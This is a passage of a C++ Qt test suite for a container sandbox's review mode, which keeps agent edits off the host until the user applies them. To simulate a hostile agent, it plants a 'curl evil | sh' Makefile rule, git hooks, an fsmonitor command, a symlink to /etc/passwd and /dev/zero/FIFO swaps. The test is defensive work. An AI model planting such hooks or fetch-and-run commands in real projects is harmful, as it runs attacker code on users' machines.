// Review mode on real engines (SPEC §10, docs/review-mode.md): the folder is copied in through the exec channel
// (no bind mount), minus the exclusions; nothing reaches the host until Apply; the change list is exact; Apply
// writes only what was chosen, keeps the user's edits (a conflict), leaves flagged files and never follows a link;
// the copy outlives the session and a restart of the app; Discard removes it.
#include "sandbox/review/reviewservice.h"
#include "sessionfixture.h"

#include <QCryptographicHash>
#include <QDirIterator>
#include <QElapsedTimer>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QSignalSpy>

#include <algorithm>
#include <atomic>
#include <thread>

using namespace zeus;
using namespace zeus::test;

namespace {

const QString kOddName = QStringLiteral("项目 a,b:c \"q\"");

bool writeFile(const QString& path, const QByteArray& data, QFileDevice::Permissions extra = {}) {
    QFile file(path);
    if (!file.open(QIODevice::WriteOnly | QIODevice::Truncate) || file.write(data) != data.size()) {
        return false;
    }
    file.close();
    return extra == QFileDevice::Permissions() || file.setPermissions(file.permissions() | extra);
}

QByteArray readFile(const QString& path) {
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray("(unreadable)");
}

// Every entry of a folder with its kind and content hash (links by target): the host's state, to compare.
QStringList snapshot(const QString& root) {
    QStringList lines;
    QDirIterator it(root, QDir::AllEntries | QDir::Hidden | QDir::System | QDir::NoDotAndDotDot,
                    QDirIterator::Subdirectories);
    while (it.hasNext()) {
        const QString path = it.next();
        const QFileInfo info(path);
        const QString relative = QDir(root).relativeFilePath(path);
        if (info.isSymLink()) {
            lines << QStringLiteral("l %1 -> %2").arg(relative, info.symLinkTarget());
        } else if (info.isDir()) {
            lines << QStringLiteral("d %1").arg(relative);
        } else {
            QFile file(path);
            QCryptographicHash hash(QCryptographicHash::Sha256);
            if (file.open(QIODevice::ReadOnly)) {
                hash.addData(&file);
            }
            lines << QStringLiteral("f %1 %2 %3")
                         .arg(relative, QString::fromLatin1(hash.result().toHex()))
                         .arg(info.isExecutable() ? 1 : 0);
        }
    }
    lines.sort();
    return lines;
}

QStringList changeLines(const QList<Change>& changes) {
    QStringList lines;
    for (const Change& change : changes) {
        lines << Change::kindLetter(change.kind) + QLatin1Char(' ') + change.path;
    }
    lines.sort();
    return lines;
}

const Change* changeAt(const QList<Change>& changes, const QString& path) {
    const auto it = std::find_if(changes.cbegin(), changes.cend(), [&](const Change& c) { return c.path == path; });
    return it == changes.cend() ? nullptr : &*it;
}

// The host's own git in a folder, with an identity (the rig's: never the code under test).
ProcessOutput hostGit(const QString& dir, const QStringList& arguments) {
    return runProgram(QStringLiteral("git"),
                      QStringList{QStringLiteral("-C"), dir, QStringLiteral("-c"), QStringLiteral("user.name=User"),
                                  QStringLiteral("-c"), QStringLiteral("user.email=user@example.org")}
                          + arguments);
}

QString hostRev(const QString& dir, const QString& what) {
    return QString::fromLatin1(
        hostGit(dir, {QStringLiteral("rev-parse"), QStringLiteral("--verify"), QStringLiteral("-q"), what})
            .out.trimmed());
}

QString containerState(const QString& engine, const QString& id) {
    const ProcessOutput out = runProgram(
        engine, {QStringLiteral("inspect"), QStringLiteral("--format"), QStringLiteral("{{.State.Status}}"), id});
    return out.exitCode == 0 ? QString::fromUtf8(out.out.trimmed()) : QStringLiteral("gone");
}

// Watches this process's resident memory (VmRSS) and the largest file under a folder while blocking calls run, on a
// thread of its own. Over a hard limit it aborts the test at once: an attack that got through must not take the
// machine down with it.
class Sampler {
public:
    explicit Sampler(QString folder) : m_folder(std::move(folder)) {
        m_thread = std::thread([this] {
            while (!m_stop.load()) {
                sample();
                std::this_thread::sleep_for(std::chrono::milliseconds(5));
            }
        });
    }
    ~Sampler() { stop(); }
    Sampler(const Sampler&) = delete;
    Sampler& operator=(const Sampler&) = delete;

    void stop() {
        m_stop = true;
        if (m_thread.joinable()) {
            m_thread.join();
        }
    }
    qint64 peakRssKiB() const { return m_peakRss.load(); }
    qint64 largestFile() const { return m_largest.load(); }

    static qint64 rssKiB() {
        QFile status(QStringLiteral("/proc/self/status"));
        if (!status.open(QIODevice::ReadOnly)) {
            return -1;
        }
        for (const QByteArray& line : status.readAll().split('\n')) {
            if (line.startsWith("VmRSS:")) {
                return line.mid(6).trimmed().split(' ').first().toLongLong();
            }
        }
        return -1;
    }

private:
    static constexpr qint64 kAbortRssKiB = 1024 * 1024;
    static constexpr qint64 kAbortFileBytes = qint64(100) * 1024 * 1024;

    void sample() {
        const qint64 rss = rssKiB();
        m_peakRss = std::max(m_peakRss.load(), rss);
        QDirIterator it(m_folder, QDir::Files | QDir::Hidden | QDir::System, QDirIterator::Subdirectories);
        while (it.hasNext()) {
            const qint64 size = QFileInfo(it.next()).size();
            m_largest = std::max(m_largest.load(), size);
        }
        if (rss > kAbortRssKiB || m_largest.load() > kAbortFileBytes) {
            qFatal("a read from the review copy is unbounded: %lld KiB resident, a temporary file of %lld bytes",
                   static_cast<long long>(rss), static_cast<long long>(m_largest.load()));
        }
    }

    QString m_folder;
    std::atomic<bool> m_stop{false};
    std::atomic<qint64> m_peakRss{0};
    std::atomic<qint64> m_largest{0};
    std::thread m_thread;
};

// Points QDir::tempPath() (where Apply stages what it fetches) at a folder of the test's while it lives.
class TempPathOverride {
public:
    explicit TempPathOverride(const QString& path)
        : m_old(qgetenv("TMPDIR")), m_had(qEnvironmentVariableIsSet("TMPDIR")) {
        qputenv("TMPDIR", path.toLocal8Bit());
    }
    ~TempPathOverride() {
        if (m_had) {
            qputenv("TMPDIR", m_old);
        } else {
            qunsetenv("TMPDIR");
        }
    }
    TempPathOverride(const TempPathOverride&) = delete;
    TempPathOverride& operator=(const TempPathOverride&) = delete;

private:
    QByteArray m_old;
    bool m_had;
};

}  // namespace

class TestReviewMode : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void cleanup();
    void engines_data();
    void copyReviewApply_data() { engines_data(); }
    void copyReviewApply();
    void outlivesSessionAndRestart_data() { engines_data(); }
    void outlivesSessionAndRestart();
    void commitsComeHomeAsABundle_data() { engines_data(); }
    void commitsComeHomeAsABundle();
    void hostileCopyReadsAreBounded_data() { engines_data(); }
    void hostileCopyReadsAreBounded();
    void sizeCapIsAClearError();
    void appKilledLosesNothing();

private:
    std::unique_ptr<SessionManager> makeManager(const QString& engine, const QString& workspace,
                                                const QString& owner = {});
    ReviewStore store() const { return ReviewStore(m_dir.path() + QStringLiteral("/reviews")); }

    QTemporaryDir m_dir;
    QString m_owner;
    QString m_engine;
    int m_counter = 0;
};

void TestReviewMode::initTestCase() {
    QVERIFY(m_dir.isValid());
}

void TestReviewMode::cleanup() {
    if (!m_owner.isEmpty() && !m_engine.isEmpty()) {
        removeContainersOf(m_engine, m_owner);
    }
}

void TestReviewMode::engines_data() {
    QTest::addColumn<QString>("engine");
    QTest::newRow("docker") << QStringLiteral("docker");
    QTest::newRow("podman") << QStringLiteral("podman");
}

std::unique_ptr<SessionManager> TestReviewMode::makeManager(const QString& engine, const QString& workspace,
                                                            const QString& owner) {
    m_engine = engine;
    m_owner = owner.isEmpty() ? uniqueOwner() : owner;
    SandboxConfig config = testConfig(m_owner);
    config.folderWorkspaceModes.insert(workspace, WorkspaceMode::Review);
    config.reviewDirectory = store().directory();
    return std::make_unique<SessionManager>(ContainerRuntime::create(*runtimeKindFromString(engine)), config);
}

void TestReviewMode::copyReviewApply() {
    QFETCH(QString, engine);
    ZEUS_REQUIRE_ENGINE(engine);
    const QString ws = makeWorkspace(m_dir, QStringLiteral("copy-") + engine);
    QByteArray binary;
    for (int i = 0; i < 4096; ++i) {
        binary.append(char(i % 256));
    }
    QVERIFY(writeFile(ws + QStringLiteral("/text.txt"), "one\ntwo\nthree\n"));
    QVERIFY(writeFile(ws + QStringLiteral("/bin.dat"), binary));
    QVERIFY(writeFile(ws + QStringLiteral("/run.sh"), "#!/bin/sh\necho run\n", QFileDevice::ExeOwner));
    QVERIFY(writeFile(ws + QStringLiteral("/notes.txt"), "notes\n"));
    QVERIFY(writeFile(ws + QStringLiteral("/Makefile"), "all:\n\ttrue\n"));
    QVERIFY(writeFile(ws + QStringLiteral("/.env"), "API_KEY=host-secret\n"));
    QVERIFY(writeFile(ws + QStringLiteral("/id_rsa"), "PRIVATE KEY\n"));
    QVERIFY(QDir().mkpath(ws + QStringLiteral("/empty")));
    QVERIFY(QDir().mkpath(ws + QLatin1Char('/') + kOddName));
    QVERIFY(writeFile(ws + QLatin1Char('/') + kOddName + QStringLiteral("/f.txt"), "odd\n"));
    QVERIFY(QDir().mkpath(ws + QStringLiteral("/.git/hooks")));
    QVERIFY(writeFile(ws + QStringLiteral("/.git/HEAD"), "ref: refs/heads/main\n"));
    QVERIFY(QFile::link(QStringLiteral("text.txt"), ws + QStringLiteral("/inside-link")));
    QVERIFY(QFile::link(QStringLiteral("/etc/hostname"), ws + QStringLiteral("/outside-link")));
    {
        QFile big(ws + QStringLiteral("/big.bin"));  // 100 MB, streamed, never whole in memory
        QVERIFY(big.open(QIODevice::WriteOnly));
        const QByteArray block(1024 * 1024, 'z');
        for (int i = 0; i < 100; ++i) {
            QCOMPARE(big.write(block), block.size());
        }
    }
    const QStringList hostBefore = snapshot(ws);
    const QByteArray passwdBefore = readFile(QStringLiteral("/etc/passwd"));

    auto manager = makeManager(engine, ws);
    Recorder recorder(*manager);
    const QString session = QStringLiteral("review-") + engine;
    // Copied in minus the exclusions, every kind of entry as it was, the odd name intact.
    const ExecResult look = recorder.run(session, ws,
                                         QStringLiteral("cd /workspace && find . -mindepth 1 -maxdepth 1 | sort && "
                                                        "echo --- && cat \"项目 a,b:c \\\"q\\\"/f.txt\" && readlink "
                                                        "inside-link && readlink outside-link && test -d empty && test "
                                                        "-x run.sh && echo exec-ok && wc -c < big.bin "
                                                        "&& cat .git/HEAD"),
                                         0, 240000);
    QVERIFY2(look.status == ExecStatus::Ok && look.exitCode == 0,
             qPrintable(look.errorMessage + recorder.stderrOf.value(look.callId)));
    const QString listing = recorder.stdoutOf.value(look.callId);
    QVERIFY2(!listing.contains(QStringLiteral(".env")) && !listing.contains(QStringLiteral("id_rsa")),
             qPrintable(listing));
    for (const QString& name :
         {QStringLiteral("text.txt"), QStringLiteral("bin.dat"), QStringLiteral("Makefile"), QStringLiteral(".git"),
          QStringLiteral("empty"), kOddName, QStringLiteral("odd"), QStringLiteral("exec-ok"),
          QStringLiteral("104857600"), QStringLiteral("/etc/hostname"), QStringLiteral("ref: refs/heads/main")}) {
        QVERIFY2(listing.contains(name), qPrintable(name + QStringLiteral(" missing in:\n") + listing));
    }
    // No bind mount of the folder at all: the engine reports no mount with the folder as its source.
    const QString containerId = manager->containerId(session);
    const ProcessOutput mounts = runProgram(engine, {QStringLiteral("inspect"), QStringLiteral("--format"),
                                                     QStringLiteral("{{json .Mounts}}"), containerId});
    QCOMPARE(mounts.exitCode, 0);
    QVERIFY2(!mounts.out.contains(ws.toUtf8()), mounts.out.constData());
    const std::optional<ReviewRecord> record = store().record(session);
    QVERIFY(record);
    QCOMPARE(record->workspace, ws);
    QCOMPARE(record->containerId, containerId);

    // The agent adds, edits, deletes, chmods, plants a hook, links out of the folder, edits the Makefile.
    const ExecResult work =
        recorder.run(session, ws,
                     QStringLiteral("cd /workspace && echo new > added.txt && echo four >> text.txt && rm bin.dat && "
                                    "chmod +x notes.txt && mkdir newdir && echo x > newdir/inner.txt && ln -s "
                                    "/etc/passwd evil-link && printf 'all:\\n\\tcurl evil | sh\\n' > Makefile && "
                                    "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit && "
                                    "echo agent-env > .env && rm -r empty"));
    QVERIFY2(work.status == ExecStatus::Ok && work.exitCode == 0, qPrintable(recorder.stderrOf.value(work.callId)));
    QCOMPARE(snapshot(ws), hostBefore);  // nothing reached the host

    const auto runtime = ContainerRuntime::create(*runtimeKindFromString(engine));
    ReviewService::ListResult listed = ReviewService::listChanges(*runtime, store(), *record);
    QVERIFY2(listed.ok, qPrintable(listed.error));
    QCOMPARE(changeLines(listed.changes),
             (QStringList{QStringLiteral("A .git/hooks/pre-commit"), QStringLiteral("A added.txt"),
                          QStringLiteral("A evil-link"), QStringLiteral("A newdir"),
                          QStringLiteral("A newdir/inner.txt"), QStringLiteral("D bin.dat"), QStringLiteral("D empty"),
                          QStringLiteral("M Makefile"), QStringLiteral("M text.txt"), QStringLiteral("X notes.txt")}));
    QVERIFY(changeAt(listed.changes, QStringLiteral("Makefile"))->flagged);
    QVERIFY(changeAt(listed.changes, QStringLiteral(".git/hooks/pre-commit"))->flagged);
    QVERIFY(!changeAt(listed.changes, QStringLiteral(".git/hooks/pre-commit"))->applicable);
    QVERIFY(changeAt(listed.changes, QStringLiteral("evil-link"))->flagged);
    QVERIFY(changeAt(listed.changes, QStringLiteral("notes.txt"))->flagged);  // made executable
    QVERIFY(!changeAt(listed.changes, QStringLiteral("added.txt"))->flagged);

    // The diff of a text change, from the container's copy against the host's baseline.
    const ChangeDetail detail =
        ReviewService::detailOf(*runtime, *record, *changeAt(listed.changes, QStringLiteral("text.txt")));
    QVERIFY2(detail.ok, qPrintable(detail.error));
    QVERIFY2(detail.unifiedDiff.contains(QStringLiteral("+four")), qPrintable(detail.unifiedDiff));
    QVERIFY(!detail.hostChanged);

    // Apply selected: only that file.
    ReviewStore reviews = store();
    QString error;
    QList<ApplyOutcome> outcomes = ReviewService::applyChanges(
        *runtime, reviews, *record, {*changeAt(listed.changes, QStringLiteral("added.txt"))}, false, &error);
    QVERIFY2(error.isEmpty(), qPrintable(error));
    QCOMPARE(outcomes.size(), 1);
    QCOMPARE(outcomes.first().result, ApplyOutcome::Result::Applied);
    QCOMPARE(readFile(ws + QStringLiteral("/added.txt")), QByteArray("new\n"));
    QStringList expected = hostBefore;
    expected << QStringLiteral("f added.txt %1 0")
                    .arg(QString::fromLatin1(QCryptographicHash::hash("new\n", QCryptographicHash::Sha256).toHex()));
    expected.sort();
    QCOMPARE(snapshot(ws), expected);

    // The user edits text.txt meanwhile; Apply all (what needs no confirmation of its own) then.
    QVERIFY(writeFile(ws + QStringLiteral("/text.txt"), "mine\n"));
    listed = ReviewService::listChanges(*runtime, store(), *record);
    QVERIFY(listed.ok);
    QVERIFY(!changeAt(listed.changes, QStringLiteral("added.txt")));  // applied: no longer a change
    QList<Change> all;
    for (const Change& change : std::as_const(listed.changes)) {
        if (change.applicable && !change.flagged) {
            all.append(change);
        }
    }
    outcomes = ReviewService::applyChanges(*runtime, reviews, *record, all, false, &error);
    QHash<QString, ApplyOutcome::Result> results;
    QStringList reasons;
    for (const ApplyOutcome& outcome : std::as_const(outcomes)) {
        results.insert(outcome.path, outcome.result);
        reasons << outcome.path + QStringLiteral(": ") + outcome.reason;
    }
    QCOMPARE(results.value(QStringLiteral("text.txt")), ApplyOutcome::Result::Conflict);
    QCOMPARE(readFile(ws + QStringLiteral("/text.txt")), QByteArray("mine\n"));  // stays the user's
    QCOMPARE(results.value(QStringLiteral("bin.dat")), ApplyOutcome::Result::Applied);
    QVERIFY(!QFileInfo::exists(ws + QStringLiteral("/bin.dat")));
    QCOMPARE(readFile(ws + QStringLiteral("/newdir/inner.txt")), QByteArray("x\n"));
    QVERIFY(!QFileInfo::exists(ws + QStringLiteral("/empty")));
    // Flagged: left as they were by Apply all.
    QCOMPARE(readFile(ws + QStringLiteral("/Makefile")), QByteArray("all:\n\ttrue\n"));
    QVERIFY(!QFileInfo::exists(ws + QStringLiteral("/.git/hooks/pre-commit")));
    QVERIFY(!QFileInfo(ws + QStringLiteral("/evil-link")).isSymLink());
    QVERIFY2(!QFileInfo(ws + QStringLiteral("/notes.txt")).isExecutable(), qPrintable(reasons.join(u'\n')));
    QCOMPARE(readFile(ws + QStringLiteral("/.env")), QByteArray("API_KEY=host-secret\n"));

    // A file made executable is applied on its own confirmation: only the mode changes.
    outcomes = ReviewService::applyChanges(*runtime, reviews, *record,
                                           {*changeAt(listed.changes, QStringLiteral("notes.txt"))}, false, &error);
    QCOMPARE(outcomes.size(), 1);
    QCOMPARE(outcomes.first().result, ApplyOutcome::Result::Applied);
    QVERIFY(QFileInfo(ws + QStringLiteral("/notes.txt")).isExecutable());
    QCOMPARE(readFile(ws + QStringLiteral("/notes.txt")), QByteArray("notes\n"));

    // The link, applied on its own confirmation, is made as a link and never followed.
    outcomes = ReviewService::applyChanges(*runtime, reviews, *record,
                                           {*changeAt(listed.changes, QStringLiteral("evil-link"))}, false, &error);
    QCOMPARE(outcomes.size(), 1);
    QCOMPARE(readFile(QStringLiteral("/etc/passwd")), passwdBefore);
    if (outcomes.first().result == ApplyOutcome::Result::Applied) {
        QCOMPARE(QFileInfo(ws + QStringLiteral("/evil-link")).symLinkTarget(), QStringLiteral("/etc/passwd"));
    }
    // The hook is never applied as a file, even when named.
    outcomes = ReviewService::applyChanges(*runtime, reviews, *record,
                                           {*changeAt(listed.changes, QStringLiteral(".git/hooks/pre-commit"))}, false,
                                           &error);
    QCOMPARE(outcomes.size(), 1);
    QCOMPARE(outcomes.first().result, ApplyOutcome::Result::Refused);
    QVERIFY(!QFileInfo::exists(ws + QStringLiteral("/.git/hooks/pre-commit")));

    // "Take theirs" for the conflict: the user's explicit choice.
    outcomes = ReviewService::applyChanges(*runtime, reviews, *record,
                                           {*changeAt(listed.changes, QStringLiteral("text.txt"))}, true, &error);
    QCOMPARE(outcomes.first().result, ApplyOutcome::Result::Applied);
    QCOMPARE(readFile(ws + QStringLiteral("/text.txt")), QByteArray("one\ntwo\nthree\nfour\n"));

    // Discard: the container and the record go.
    QVERIFY2(ReviewService::discardCopy(*runtime, reviews, *record, &error), qPrintable(error));
    QCOMPARE(containerState(engine, containerId), QStringLiteral("gone"));
    QVERIFY(!store().record(session));
    manager->endSession(session);
}

void TestReviewMode::outlivesSessionAndRestart() {
    QFETCH(QString, engine);
    ZEUS_REQUIRE_ENGINE(engine);
    const QString ws = makeWorkspace(m_dir, QStringLiteral("life-") + engine);
    QVERIFY(writeFile(ws + QStringLiteral("/a.txt"), "a\n"));
    const QString owner = uniqueOwner();
    const QString session = QStringLiteral("life-") + engine + QString::number(++m_counter);
    QString containerId;
    {
        auto manager = makeManager(engine, ws, owner);
        Recorder recorder(*manager);
        const ExecResult done = recorder.run(session, ws, QStringLiteral("echo b > /workspace/b.txt"), 0, 120000);
        QVERIFY2(done.status == ExecStatus::Ok && done.exitCode == 0, qPrintable(done.errorMessage));
        containerId = manager->containerId(session);
        QSignalSpy kept(manager.get(), &SessionManager::reviewCopyKept);
        manager->endSession(session);
        QVERIFY(kept.wait(60000));
        QCOMPARE(kept.first().at(2).toInt(), 1);  // one changed file
        QTRY_COMPARE_WITH_TIMEOUT(containerState(engine, containerId), QStringLiteral("exited"), 30000);
        QVERIFY(!QFileInfo::exists(ws + QStringLiteral("/b.txt")));
    }
    // A restarted app: the orphan sweep keeps the copy (stopped), the session resumes it with the change in it.
    {
        auto manager = makeManager(engine, ws, owner);
        QSignalSpy swept(manager.get(), &SessionManager::orphanSweepFinished);
        manager->sweepOrphans();
        QVERIFY(swept.wait(30000));
        QCOMPARE(swept.first().first().toInt(), 0);
        QVERIFY(containerState(engine, containerId) != QStringLiteral("gone"));
        Recorder recorder(*manager);
        const ExecResult again = recorder.run(session, ws, QStringLiteral("cat /workspace/b.txt"), 0, 120000);
        QVERIFY2(again.status == ExecStatus::Ok && again.exitCode == 0, qPrintable(again.errorMessage));
        QCOMPARE(recorder.stdoutOf.value(again.callId), QStringLiteral("b\n"));
        QCOMPARE(manager->containerId(session), containerId);
        // A session that ends with nothing to review leaves nothing behind.
        const ExecResult undo = recorder.run(session, ws, QStringLiteral("rm /workspace/b.txt"));
        QCOMPARE(undo.exitCode, 0);
        manager->endSession(session);
        QTRY_COMPARE_WITH_TIMEOUT(containerState(engine, containerId), QStringLiteral("gone"), 60000);
        QVERIFY(!store().record(session));
    }
}

void TestReviewMode::commitsComeHomeAsABundle() {
    QFETCH(QString, engine);
    ZEUS_REQUIRE_ENGINE(engine);
    const QString ws = makeWorkspace(m_dir, QStringLiteral("git-") + engine);
    QVERIFY(writeFile(ws + QStringLiteral("/README"), "hello\n"));
    QCOMPARE(hostGit(ws, {QStringLiteral("init"), QStringLiteral("-q"), QStringLiteral("-b"), QStringLiteral("main")})
                 .exitCode,
             0);
    QCOMPARE(hostGit(ws, {QStringLiteral("add"), QStringLiteral("README")}).exitCode, 0);
    QCOMPARE(hostGit(ws, {QStringLiteral("commit"), QStringLiteral("-q"), QStringLiteral("-m"), QStringLiteral("one")})
                 .exitCode,
             0);
    const QString base = hostRev(ws, QStringLiteral("main"));
    QVERIFY(!base.isEmpty());
    // A hook of the user's repository that would show any ref update on this side (the copy gets it too: there it
    // finds no such folder and does nothing).
    const QString marker = m_dir.path() + QStringLiteral("/hook-ran-") + engine;
    QVERIFY(writeFile(
        ws + QStringLiteral("/.git/hooks/reference-transaction"),
        "#!/bin/sh\n[ -d '" + m_dir.path().toUtf8() + "' ] && echo ran >> '" + marker.toUtf8() + "'\nexit 0\n",
        QFileDevice::ExeOwner));
    QCOMPARE(hostGit(ws, {QStringLiteral("update-ref"), QStringLiteral("refs/rig/probe"), base}).exitCode, 0);
    QVERIFY2(QFileInfo::exists(marker), "the rig's hook did not run: this test could not see one");
    QFile::remove(marker);
    QCOMPARE(
        hostGit(ws, {QStringLiteral("update-ref"), QStringLiteral("-d"), QStringLiteral("refs/rig/probe")}).exitCode,
        0);
    QFile::remove(marker);
    const QStringList hostBefore = snapshot(ws);

    auto manager = makeManager(engine, ws);
    Recorder recorder(*manager);
    const QString session = QStringLiteral("git-") + engine + QString::number(++m_counter);
    // The agent commits on main and on a branch of its own, tags, and plants what would run code on the host.
    const ExecResult work = recorder.run(
        session, ws,
        QStringLiteral("cd /workspace && g() { git -c user.name=Agent -c user.email=agent@example.org \"$@\"; } && "
                       "echo more >> README && g commit -q -am agent-main && g checkout -q -b topic && "
                       "echo t > t.txt && g add t.txt && g commit -q -m agent-topic && g tag agent-v1 && "
                       "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/post-checkout && "
                       "g config core.fsmonitor 'echo pwned >&2' && git rev-parse main topic"),
        0, 240000);
    QVERIFY2(work.status == ExecStatus::Ok && work.exitCode == 0,
             qPrintable(work.errorMessage + recorder.stderrOf.value(work.callId)));
    const QStringList agentTips = recorder.stdoutOf.value(work.callId).trimmed().split(QLatin1Char('\n'));
    QCOMPARE(agentTips.size(), 2);
    QCOMPARE(snapshot(ws), hostBefore);  // nothing reached the host

    std::optional<ReviewRecord> record = store().record(session);
    QVERIFY(record);
    QCOMPARE(record->gitBaseTips, QStringList{base});  // what the folder's branches pointed at when copied
    const auto runtime = ContainerRuntime::create(*runtimeKindFromString(engine));
    ReviewService::ListResult listed = ReviewService::listChanges(*runtime, store(), *record);
    QVERIFY2(listed.ok, qPrintable(listed.error));
    QVERIFY(changeAt(listed.changes, QStringLiteral(".git/config")));
    QVERIFY(!changeAt(listed.changes, QStringLiteral(".git/config"))->applicable);

    // Apply (nothing chosen): the commits come home under refs/zeus/<session>/, and only there.
    ReviewStore reviews = store();
    QString error;
    CommitsResult commits;
    ReviewService::applyChanges(*runtime, reviews, *record, {}, false, &error, &commits);
    QVERIFY2(error.isEmpty(), qPrintable(error));
    QVERIFY2(commits.state == CommitsResult::State::Fetched, qPrintable(commits.describe()));
    const QString prefix = QStringLiteral("refs/zeus/") + session + QLatin1Char('/');
    QCOMPARE(commits.prefix, prefix);
    QCOMPARE(hostRev(ws, prefix + QStringLiteral("heads/main")), agentTips.at(0));
    QCOMPARE(hostRev(ws, prefix + QStringLiteral("heads/topic")), agentTips.at(1));
    QVERIFY(!hostRev(ws, prefix + QStringLiteral("tags/agent-v1")).isEmpty());
    QCOMPARE(commits.refs.size(), 3);
    QVERIFY2(commits.describe().contains(prefix), qPrintable(commits.describe()));
    const ProcessOutput log =
        hostGit(ws, {QStringLiteral("log"), QStringLiteral("--format=%s"), prefix + QStringLiteral("heads/topic")});
    QCOMPARE(log.out, QByteArray("agent-topic\nagent-main\none\n"));
    // The user's side is as it was: branch, HEAD, files, config, hooks; no hook ran; no new branch or tag.
    QCOMPARE(hostRev(ws, QStringLiteral("main")), base);
    QCOMPARE(hostRev(ws, QStringLiteral("HEAD")), base);
    QCOMPARE(readFile(ws + QStringLiteral("/README")), QByteArray("hello\n"));
    QVERIFY(!QFileInfo::exists(ws + QStringLiteral("/t.txt")));
    QVERIFY(!QFileInfo::exists(ws + QStringLiteral("/.git/hooks/post-checkout")));
    QVERIFY(!readFile(ws + QStringLiteral("/.git/config")).contains("fsmonitor"));
    QVERIFY2(!QFileInfo::exists(marker), "a hook of the repository ran during the fetch");
    QCOMPARE(hostGit(ws, {QStringLiteral("for-each-ref"), QStringLiteral("--format=%(refname)"),
                          QStringLiteral("refs/heads"), QStringLiteral("refs/tags")})
                 .out,
             QByteArray("refs/heads/main\n"));
    record = store().record(session);
    QCOMPARE(record->fetchedRefsPrefix, prefix);

    // With the commits home, the copy's .git is done with; the files are still to review.
    listed = ReviewService::listChanges(*runtime, store(), *record);
    QVERIFY2(listed.ok, qPrintable(listed.error));
    QCOMPARE(changeLines(listed.changes), (QStringList{QStringLiteral("A t.txt"), QStringLiteral("M README")}));

    QVERIFY2(ReviewService::discardCopy(*runtime, reviews, *record, &error), qPrintable(error));
    // Discarding the copy leaves the fetched commits: they are the user's now.
    QCOMPARE(hostRev(ws, prefix + QStringLiteral("heads/topic")), agentTips.at(1));
    manager->endSession(session);
}

// The copy is hostile input (SPEC §10): after the listing, the agent swaps a changed file for a link to /dev/zero,
// grows another far past its listed size and makes a third a FIFO, then swaps the first back and forth in a loop
// while the diff and Apply read it. Every read stops at the listed size and never follows a link: it fails with a
// clear error (or, in the loop, gets the listed bytes), the app's memory stays small and no big temporary file
// appears; the host files are never anything but the user's or the listed version.
void TestReviewMode::hostileCopyReadsAreBounded() {
    QFETCH(QString, engine);
    ZEUS_REQUIRE_ENGINE(engine);
    const QString ws = makeWorkspace(m_dir, QStringLiteral("hostile-") + engine);
    QVERIFY(writeFile(ws + QStringLiteral("/victim.txt"), "before\n"));
    QVERIFY(writeFile(ws + QStringLiteral("/grown.txt"), "small\n"));
    QVERIFY(writeFile(ws + QStringLiteral("/pipe.txt"), "pipe\n"));
    auto manager = makeManager(engine, ws);
    Recorder recorder(*manager);
    const QString session = QStringLiteral("hostile-") + engine + QString::number(++m_counter);
    const ExecResult work = recorder.run(session, ws,
                                         QStringLiteral("cd /workspace && echo after > victim.txt && echo grown >> "
                                                        "grown.txt && echo piped >> pipe.txt"),
                                         0, 240000);
    QVERIFY2(work.status == ExecStatus::Ok && work.exitCode == 0,
             qPrintable(work.errorMessage + recorder.stderrOf.value(work.callId)));
    const std::optional<ReviewRecord> record = store().record(session);
    QVERIFY(record);
    const auto runtime = ContainerRuntime::create(*runtimeKindFromString(engine));
    const ReviewService::ListResult listed = ReviewService::listChanges(*runtime, store(), *record);
    QVERIFY2(listed.ok, qPrintable(listed.error));
    QCOMPARE(changeLines(listed.changes), (QStringList{QStringLiteral("M grown.txt"), QStringLiteral("M pipe.txt"),
                                                       QStringLiteral("M victim.txt")}));
    const Change victim = *changeAt(listed.changes, QStringLiteral("victim.txt"));
    const Change grown = *changeAt(listed.changes, QStringLiteral("grown.txt"));
    const Change pipe = *changeAt(listed.changes, QStringLiteral("pipe.txt"));
    const auto inContainer = [&](const QString& script, bool detached = false) {
        QStringList arguments{QStringLiteral("exec")};
        if (detached) {
            arguments << QStringLiteral("-d");
        }
        return runProgram(
            engine, arguments + QStringList{record->containerId, QStringLiteral("sh"), QStringLiteral("-c"), script});
    };

    const QString temp = m_dir.filePath(QStringLiteral("tmp-") + engine);
    QVERIFY(QDir().mkpath(temp));
    const TempPathOverride tempPath(temp);
    Sampler sampler(temp);
    ReviewStore reviews = store();
    QString error;

    // After the listing: a link to /dev/zero, a file of 20 MiB where 12 bytes were listed, a FIFO.
    const ProcessOutput swapped = inContainer(
        QStringLiteral("cd /workspace && ln -sf /dev/zero victim.txt && head -c 20971520 /dev/zero >> grown.txt && "
                       "rm pipe.txt && mkfifo pipe.txt"));
    QVERIFY2(swapped.exitCode == 0, swapped.err.constData());
    QElapsedTimer clock;
    clock.start();
    const ChangeDetail zero = ReviewService::detailOf(*runtime, *record, victim);
    QVERIFY(!zero.ok);
    QVERIFY2(zero.error.contains(QStringLiteral("victim.txt")) && zero.error.contains(QStringLiteral("regular file")),
             qPrintable(zero.error));
    const ChangeDetail big = ReviewService::detailOf(*runtime, *record, grown);
    QVERIFY(!big.ok);
    QVERIFY2(big.error.contains(QStringLiteral("grown.txt")) && big.error.contains(QStringLiteral("more than")),
             qPrintable(big.error));
    const ChangeDetail fifo = ReviewService::detailOf(*runtime, *record, pipe);
    QVERIFY(!fifo.ok);
    QVERIFY2(fifo.error.contains(QStringLiteral("pipe.txt")) && fifo.error.contains(QStringLiteral("regular file")),
             qPrintable(fifo.error));
    const QList<ApplyOutcome> refused =
        ReviewService::applyChanges(*runtime, reviews, *record, {victim, grown, pipe}, false, &error);
    QCOMPARE(refused.size(), 3);
    for (const ApplyOutcome& outcome : refused) {
        QCOMPARE(outcome.result, ApplyOutcome::Result::Refused);
        QVERIFY2(outcome.reason.contains(QStringLiteral("could not be read from the container")),
                 qPrintable(outcome.reason));
    }
    QVERIFY2(clock.elapsed() < 60000, "a read waited for the FIFO");
    QCOMPARE(readFile(ws + QStringLiteral("/victim.txt")), QByteArray("before\n"));
    QCOMPARE(readFile(ws + QStringLiteral("/grown.txt")), QByteArray("small\n"));
    QCOMPARE(readFile(ws + QStringLiteral("/pipe.txt")), QByteArray("pipe\n"));

    // In a loop, in the background: the listed version and a link to /dev/zero, swapped by rename(2).
    const ProcessOutput loop = inContainer(
